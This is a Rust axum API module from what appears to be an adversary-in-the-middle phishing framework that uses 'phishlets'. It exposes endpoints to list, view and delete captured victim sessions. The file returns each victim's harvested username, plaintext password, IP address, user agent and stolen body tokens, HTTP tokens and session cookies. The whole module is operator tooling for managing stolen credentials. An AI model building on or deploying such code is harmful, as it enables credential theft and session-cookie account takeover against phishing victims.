//! Sessions API
//!
//! The list view carries presence flags instead of raw token payloads; the
//! detail view returns every captured token category that is non-empty.

use axum::{
    extract::{FromRequestParts, Path, State},
    http::{request::Parts, StatusCode},
    response::{IntoResponse, Json, Response},
};
use serde::Serialize;
use std::collections::HashMap;
use tracing::warn;

use super::{ActionResponse, ApiError, ApiState};
use crate::sessions::{CookieToken, Session};

/// Numeric `{id}` path segment
///
/// Anything other than ASCII digits does not match the route and yields a
/// bare `404`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SessionId(pub u64);

impl<S> FromRequestParts<S> for SessionId
where
    S: Send + Sync,
{
    type Rejection = Response;

    async fn from_request_parts(parts: &mut Parts, state: &S) -> Result<Self, Self::Rejection> {
        let Path(raw) = Path::<String>::from_request_parts(parts, state)
            .await
            .map_err(IntoResponse::into_response)?;
        if raw.is_empty() || !raw.bytes().all(|b| b.is_ascii_digit()) {
            return Err(StatusCode::NOT_FOUND.into_response());
        }
        raw.parse()
            .map(SessionId)
            .map_err(|_| ApiError::NotFound("Session not found".into()).into_response())
    }
}

/// Which token categories hold captures
#[derive(Debug, Serialize, PartialEq, Eq)]
pub struct TokenFlags {
    pub body: bool,
    pub http: bool,
    pub cookies: bool,
}

impl From<&Session> for TokenFlags {
    fn from(s: &Session) -> Self {
        Self {
            body: !s.body_tokens.is_empty(),
            http: !s.http_tokens.is_empty(),
            cookies: !s.cookie_tokens.is_empty(),
        }
    }
}

#[derive(Debug, Serialize)]
pub struct SessionSummary {
    pub id: u64,
    pub phishlet: String,
    pub username: String,
    pub password: String,
    pub tokens: TokenFlags,
    pub remote_ip: String,
    pub time: i64,
}

impl From<&Session> for SessionSummary {
    fn from(s: &Session) -> Self {
        Self {
            id: s.id,
            phishlet: s.phishlet.clone(),
            username: s.username.clone(),
            password: s.password.clone(),
            tokens: TokenFlags::from(s),
            remote_ip: s.remote_addr.clone(),
            time: s.update_time,
        }
    }
}

#[derive(Debug, Serialize)]
pub struct SessionListResponse {
    pub sessions: Vec<SessionSummary>,
}

/// Captured tokens, non-empty categories only
#[derive(Debug, Default, Serialize)]
pub struct SessionTokens {
    #[serde(skip_serializing_if = "Option::is_none")]
    pub body: Option<HashMap<String, String>>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub http: Option<HashMap<String, String>>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub cookies: Option<HashMap<String, HashMap<String, CookieToken>>>,
}

#[derive(Debug, Serialize)]
pub struct SessionDetail {
    pub id: u64,
    pub phishlet: String,
    pub username: String,
    pub password: String,
    pub landing_url: String,
    pub user_agent: String,
    pub remote_ip: String,
    pub create_time: i64,
    pub update_time: i64,
    pub custom: HashMap<String, String>,
    pub tokens: SessionTokens,
}

impl From<Session> for SessionDetail {
    fn from(s: Session) -> Self {
        let tokens = SessionTokens {
            body: (!s.body_tokens.is_empty()).then_some(s.body_tokens),
            http: (!s.http_tokens.is_empty()).then_some(s.http_tokens),
            cookies: (!s.cookie_tokens.is_empty()).then_some(s.cookie_tokens),
        };
        Self {
            id: s.id,
            phishlet: s.phishlet,
            username: s.username,
            password: s.password,
            landing_url: s.landing_url,
            user_agent: s.user_agent,
            remote_ip: s.remote_addr,
            create_time: s.create_time,
            update_time: s.update_time,
            custom: s.custom,
            tokens,
        }
    }
}

pub async fn list_sessions(
    State(state): State<ApiState>,
) -> Result<Json<SessionListResponse>, ApiError> {
    let sessions = state
        .sessions
        .list()
        .map_err(|e| ApiError::Internal(e.to_string()))?
        .iter()
        .map(SessionSummary::from)
        .collect();
    Ok(Json(SessionListResponse { sessions }))
}

/// Linear scan; the store holds at most a few thousand rows
pub async fn get_session(
    State(state): State<ApiState>,
    SessionId(id): SessionId,
) -> Result<Json<SessionDetail>, ApiError> {
    state
        .sessions
        .list()
        .map_err(|e| ApiError::Internal(e.to_string()))?
        .into_iter()
        .find(|s| s.id == id)
        .map(|s| Json(SessionDetail::from(s)))
        .ok_or_else(|| ApiError::NotFound("Session not found".into()))
}

pub async fn delete_session(
    State(state): State<ApiState>,
    SessionId(id): SessionId,
) -> Result<Json<ActionResponse>, ApiError> {
    state
        .sessions
        .delete(id)
        .map_err(|e| ApiError::Internal(e.to_string()))?;

    let sessions = state.sessions.clone();
    match tokio::task::spawn_blocking(move || sessions.flush()).await {
        Ok(Ok(())) => {}
        Ok(Err(e)) => warn!(session = id, "Session store flush failed: {}", e),
        Err(e) => warn!(session = id, "Session store flush task failed: {}", e),
    }

    Ok(ActionResponse::new("deleted"))
}
